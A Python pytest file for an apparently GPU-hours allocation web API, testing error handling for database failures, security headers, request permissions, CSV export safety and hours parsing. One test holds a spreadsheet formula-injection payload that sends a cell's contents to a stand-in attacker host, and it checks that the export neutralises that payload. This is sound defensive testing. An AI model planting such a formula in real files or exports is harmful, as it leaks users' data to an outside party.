"""The HTTP edge against an attacker and a failing database.

* database faults are the JSON error body with the right status: an integrity violation the
  rules missed is a 409 naming the field, a database that refuses connections a 503 with
  ``Retry-After`` (and ``/readyz`` says why), a terminated PostgreSQL backend is retried once
  when nothing of the request began committing, else a 503;
* every answer carries the security headers fitted to JSON or HTML;
* who may request hours (members, or an admin on the project's behalf);
* the CSV report is safe to open in a spreadsheet;
* hours that are written properly are taken.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, create_engine, event, func, select, text
from sqlalchemy.pool import NullPool

from allocator import rules
from allocator.hours import STRICT_PATTERNS, Sign
from connectors.auth import mint_token
from connectors.bootstrap import Services, build
from connectors.db import tables as t
from connectors.db.engine import make_engine
from connectors.db.repositories import SqlPools
from connectors.http.app import create_app
from connectors.settings import Settings
from tests.api.conftest import auth
from tests.builders import World
from tests.conftest import NOW, PG_URL

ALLOCATE = {"pool_id": "nat", "chair_id": "chair-a", "period": "2026Q4", "hours": 1, "reason": "x"}


def journal_size(services: Services) -> int:
    with services.engine.connect() as conn:
        return int(conn.scalar(select(func.count()).select_from(t.LedgerEntryRow)) or 0)


def assert_error_body(r: Any, status: int, code: str) -> dict[str, Any]:
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == "application/json", r.text
    error: dict[str, Any] = r.json()["error"]
    assert error["code"] == code, error
    assert set(error) >= {"code", "field", "message"}
    return error


# --- integrity violations: the safety net behind the rules ------------------------------------


def test_a_duplicate_the_rules_missed_is_a_409_naming_the_field_and_writes_nothing(
    client: TestClient,
    services: Services,
    world: World,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(rules, "no_duplicates", lambda *_args, **_kw: None)  # the rules miss it
    pool = {
        "id": "loc2",
        "name": "second",
        "kind": "local",
        "inventory": [{"gpu_type": "a100", "count": 1}, {"gpu_type": "a100", "count": 2}],
    }
    r = client.post("/api/v1/pools", headers=auth(world, "admin"), json=pool)
    error = assert_error_body(r, 409, "conflict")
    assert error["field"] == "inventory"
    assert "appears twice or already exists" in error["message"]
    if services.engine.dialect.name == "postgresql":
        assert "a100" in error["message"]  # the duplicate key, from the server's detail
    r = client.get("/api/v1/pools/loc2", headers=auth(world, "admin"))
    assert r.status_code == 404


def test_an_unexpected_exception_is_a_json_500_with_the_security_headers(
    services: Services, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_args: Any, **_kw: Any) -> Any:
        raise RuntimeError("a bug")

    monkeypatch.setattr(SqlPools, "list", broken)
    with TestClient(create_app(services=services), raise_server_exceptions=False) as c:
        r = c.get("/api/v1/pools", headers=auth(world, "admin"))
    assert_error_body(r, 500, "internal_error")
    assert "a bug" not in r.text
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["cache-control"] == "no-store"


# --- an unavailable database ------------------------------------------------------------------


def closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])  # nothing listens once closed


def unreachable(backend: str, tmp_path: Path) -> Engine:
    if backend == "sqlite":  # a file in a directory that does not exist
        return create_engine(f"sqlite:///{tmp_path / 'missing' / 'gpuhours.db'}")
    if not PG_URL:
        pytest.skip("PostgreSQL not configured: set GPUHOURS_TEST_DATABASE_URL")
    return make_engine(f"postgresql://postgres@127.0.0.1:{closed_port()}/test", poolclass=NullPool)


@pytest.mark.parametrize(
    "backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def test_a_database_that_refuses_connections_gives_503_with_retry_after(
    backend: str, tmp_path: Path
) -> None:
    engine = unreachable(backend, tmp_path)
    sv = build(Settings(database_url=engine.url.render_as_string(False)), engine=engine)
    token = {"Authorization": "Bearer gph_" + "x" * 43}
    with TestClient(create_app(services=sv)) as c:
        for method, path, body in [
            ("GET", "/api/v1/pools", None),
            ("POST", "/api/v1/allocations/chairs", ALLOCATE),
        ]:
            r = c.request(method, path, headers=token, json=body)
            error = assert_error_body(r, 503, "unavailable")
            assert r.headers["retry-after"] == "5"
            assert "the database refuses connections" in error["message"]
        r = c.get("/readyz")
        assert r.status_code == 503
        assert r.headers["retry-after"] == "5"
        assert r.json() == {"status": "unavailable", "reason": "the database refuses connections"}
        assert c.get("/healthz").status_code == 200  # the process itself is up
    engine.dispose()


# --- a terminated PostgreSQL backend ----------------------------------------------------------


class Terminator:
    """Terminates the server backend of the connection that is about to run a statement
    matching ``pattern`` (``pg_terminate_backend`` from another connection), ``times`` times."""

    def __init__(self, engine: Engine, pattern: str, times: int = 1) -> None:
        self.engine, self.pattern, self.left = engine, pattern, times
        self.admin = create_engine(
            engine.url.render_as_string(False), poolclass=NullPool, isolation_level="AUTOCOMMIT"
        )

    def __call__(self, conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        if self.left and self.pattern in statement:
            self.left -= 1
            pid = conn.connection.dbapi_connection.info.backend_pid
            with self.admin.connect() as admin:
                admin.execute(text("SELECT pg_terminate_backend(:pid)"), {"pid": pid})

    def on_commit(self, conn: Any) -> None:
        if self.left and self.pattern == "COMMIT":
            self.left -= 1
            pid = conn.connection.dbapi_connection.info.backend_pid
            with self.admin.connect() as admin:
                admin.execute(text("SELECT pg_terminate_backend(:pid)"), {"pid": pid})


@pytest.fixture
def terminate(engine: Engine) -> Iterator[Any]:
    if engine.dialect.name != "postgresql":
        pytest.skip("terminating a backend is PostgreSQL's")
    made: list[Terminator] = []

    def arm(pattern: str, times: int = 1) -> Terminator:
        terminator = Terminator(engine, pattern, times)
        event.listen(engine, "before_cursor_execute", terminator)
        event.listen(engine, "commit", terminator.on_commit)
        made.append(terminator)
        return terminator

    yield arm
    for terminator in made:
        event.remove(engine, "before_cursor_execute", terminator)
        event.remove(engine, "commit", terminator.on_commit)
        terminator.admin.dispose()


def test_a_read_whose_backend_is_terminated_is_retried_once_and_answers(
    client: TestClient, world: World, terminate: Any
) -> None:
    h = auth(world, "admin")
    client.get("/api/v1/pools", headers=h)  # the token is cached: only the read runs SQL
    terminator = terminate("FROM pools")
    r = client.get("/api/v1/pools", headers=h)
    assert r.status_code == 200, r.text
    assert terminator.left == 0  # it did terminate a backend
    assert {p["id"] for p in r.json()["items"]} == {"nat", "loc"}


def test_a_write_terminated_before_its_commit_is_retried_once_and_books_once(
    client: TestClient, services: Services, world: World, terminate: Any
) -> None:
    h = auth(world, "admin")
    client.get("/api/v1/pools", headers=h)
    before = journal_size(services)
    terminator = terminate("INSERT INTO ledger_entries")
    r = client.post("/api/v1/allocations/chairs", headers=h, json=ALLOCATE)
    assert r.status_code == 201, r.text
    assert terminator.left == 0
    assert journal_size(services) == before + 1


def test_a_write_terminated_at_its_commit_is_not_retried_and_gives_503(
    client: TestClient, services: Services, world: World, terminate: Any
) -> None:
    h = auth(world, "admin")
    client.get("/api/v1/pools", headers=h)
    before = journal_size(services)
    terminate("COMMIT")
    r = client.post("/api/v1/allocations/chairs", headers=h, json=ALLOCATE)
    error = assert_error_body(r, 503, "unavailable")
    assert r.headers["retry-after"] == "5"
    assert "connection to the database was lost" in error["message"]
    assert journal_size(services) == before  # the server rolled the transaction back


def test_a_read_terminated_twice_gives_503_after_one_retry(
    client: TestClient, world: World, terminate: Any
) -> None:
    h = auth(world, "admin")
    client.get("/api/v1/pools", headers=h)
    terminator = terminate("FROM pools", times=3)
    r = client.get("/api/v1/pools", headers=h)
    assert_error_body(r, 503, "unavailable")
    assert terminator.left == 1  # two attempts, not three
    assert client.get("/api/v1/pools", headers=h).status_code == 200  # and then it recovers


# --- security headers ---------------------------------------------------------------------------

COMMON = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
}


def csp(r: Any) -> dict[str, str]:
    directives = [d.strip() for d in r.headers["content-security-policy"].split(";")]
    return {d.split(" ", 1)[0]: d.split(" ", 1)[1] if " " in d else "" for d in directives if d}


def test_every_json_answer_carries_the_security_headers(client: TestClient, world: World) -> None:
    h = auth(world, "admin")
    answers = [
        client.get("/api/v1/pools", headers=h),  # 200, authenticated
        client.get("/api/v1/pools"),  # 401
        client.get("/api/v1/pools/nope", headers=h),  # 404
        client.get("/no/such/path"),  # 404 of no route
        client.post("/api/v1/allocations/chairs", headers=h, json={}),  # 422
        client.get("/healthz"),
    ]
    for r in answers:
        assert {k: r.headers.get(k) for k in COMMON} == COMMON, (r.url, r.headers)
        policy = csp(r)
        assert policy["default-src"] == "'none'", r.headers
        assert policy["frame-ancestors"] == "'none'", r.headers
        assert "server" not in r.headers
    assert answers[0].headers["cache-control"] == "no-store"  # an authenticated answer
    assert answers[2].headers["cache-control"] == "no-store"


def test_the_html_report_may_apply_its_inline_style_and_nothing_else(
    client: TestClient, world: World
) -> None:
    r = client.get("/api/v1/reports/2026Q4", params={"format": "html"}, headers=auth(world, "eng"))
    assert r.status_code == 200, r.text
    assert "<style>" in r.text and "<script" not in r.text
    assert {k: r.headers.get(k) for k in COMMON} == COMMON
    assert csp(r) == {
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "frame-ancestors": "'none'",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert r.headers["cache-control"] == "no-store"


def test_the_api_docs_page_may_load_swagger_ui_but_not_be_framed(client: TestClient) -> None:
    r = client.get("/api/v1/docs")
    assert r.status_code == 200
    policy = csp(r)
    assert policy["frame-ancestors"] == "'none'"
    # Swagger UI is served by gpuhours itself: no CDN, no inline script.
    assert policy["script-src"] == policy["style-src"] == "'self'"
    assert policy["connect-src"] == "'self'"  # the OpenAPI document, "try it out"
    assert r.headers["x-frame-options"] == "DENY"


# --- who may request hours ----------------------------------------------------------------------

REQUEST = {
    "project_id": "p1",
    "pool_id": "nat",
    "periods": [{"period": "2026Q4", "hours": 5}],
    "justification": "experiments",
}


def test_members_request_admins_request_on_behalf_engineers_comment(
    client: TestClient, services: Services, world: World
) -> None:
    r = client.post("/api/v1/requests", headers=auth(world, "alice"), json=REQUEST)  # the PI
    assert r.status_code == 201, r.text
    r = client.post("/api/v1/requests", headers=auth(world, "admin"), json=REQUEST)
    assert r.status_code == 201, r.text
    rid = r.json()["id"]
    assert r.json()["requester"] == "admin"
    with services.uow() as uow:
        events = [e for e in uow.audit.list(f"request:{rid}") if e.action == "request.submitted"]
    assert len(events) == 1 and events[0].actor == "admin"
    assert "submitted by admin on behalf of p1" in events[0].detail
    r = client.post("/api/v1/requests", headers=auth(world, "eng"), json=REQUEST)
    assert r.status_code == 403
    r = client.post(
        f"/api/v1/requests/{rid}/comments", headers=auth(world, "eng"), json={"text": "why?"}
    )
    assert r.status_code == 200, r.text
    r = client.post("/api/v1/requests", headers=auth(world, "bob"), json=REQUEST)
    assert r.status_code == 404  # p1 is invisible to bob: the visibility rule holds


# --- the CSV report in a spreadsheet ------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_a_formula_in_a_pool_unit_is_neutralised_and_negative_numbers_stay_numbers(
    client: TestClient, world: World
) -> None:
    h = auth(world, "admin")
    pool = {
        "id": "lab",
        "name": "lab",
        "kind": "local",
        "unit": FORMULA,
        "inventory": [{"gpu_type": "v100", "count": 1}],
        "routes": [{"cluster": "lab"}],
    }
    assert client.post("/api/v1/pools", headers=h, json=pool).status_code == 201
    chair = {**ALLOCATE, "pool_id": "lab", "hours": 10}
    assert client.post("/api/v1/allocations/chairs", headers=h, json=chair).status_code == 201
    debit = {"pool_id": "lab", "project_id": "p1", "period": "2026Q4", "hours": -2, "reason": "x"}
    assert client.post("/api/v1/adjustments", headers=h, json=debit).status_code == 201
    r = client.get("/api/v1/reports/2026Q4", params={"format": "csv"}, headers=h)
    assert r.status_code == 200, r.text
    rows = [row for row in csv.DictReader(io.StringIO(r.text)) if row["pool"] == "lab"]
    assert rows and {row["unit"] for row in rows} == {"'" + FORMULA}
    project = next(row for row in rows if row["project"] == "p1")
    assert (project["adjustments_hours"], project["remaining_hours"]) == ("-2.00", "-2.00")
    for row in rows:  # nothing a spreadsheet would run
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or value.replace(".", "").lstrip("-").isdigit()


# --- hours written properly are taken -----------------------------------------------------------


@pytest.mark.parametrize(
    ("hours", "seconds"),
    [("1.5", 5400), (1.5, 5400), ("0.005", 18), (2, 7200), ("12.250", 44100), (0.25, 900)],
)
def test_hours_written_as_ascii_decimals_are_taken(
    client: TestClient, world: World, hours: Any, seconds: int
) -> None:
    body = {**ALLOCATE, "hours": hours}
    r = client.post("/api/v1/allocations/chairs", headers=auth(world, "admin"), json=body)
    assert r.status_code == 201, r.text
    assert r.json()["amount_seconds"] == seconds


def test_the_hours_rule_is_in_the_openapi_document(client: TestClient) -> None:
    doc = client.get("/api/v1/openapi.json").json()
    hours = doc["components"]["schemas"]["ChairAllocationIn"]["properties"]["hours"]
    assert "at most 3 decimals" in hours["description"]
    patterns = [s.get("pattern") for s in hours["anyOf"] if s.get("type") == "string"]
    # the strict form (allocator.hours): at most 3 decimals, and also positive, at most the
    # maximum, whole seconds (test_openapi_rules.py, tests/unit/test_hours_patterns.py)
    assert patterns == [STRICT_PATTERNS[Sign.POSITIVE]]
    for refused in ("1.0001", "1_0", " 1", "1e3", "١"):
        assert not re.fullmatch(patterns[0], refused), refused


def test_a_scrape_token_reads_nothing_of_the_api(
    client: TestClient, services: Services, world: World
) -> None:
    with services.uow() as uow:
        from allocator.model import Role, User

        uow.users.add(User("prometheus", Role.SCRAPER))
        uow.commit()
    token = mint_token(services.session_factory, "prometheus", NOW)
    for path in ("/api/v1/me", "/api/v1/pools", "/api/v1/balances?period=2026Q4"):
        r = client.get(path, headers={"Authorization": f"Bearer {token}"})
        error = assert_error_body(r, 403, "forbidden")
        assert "a scrape token reads /metrics only" in error["message"]
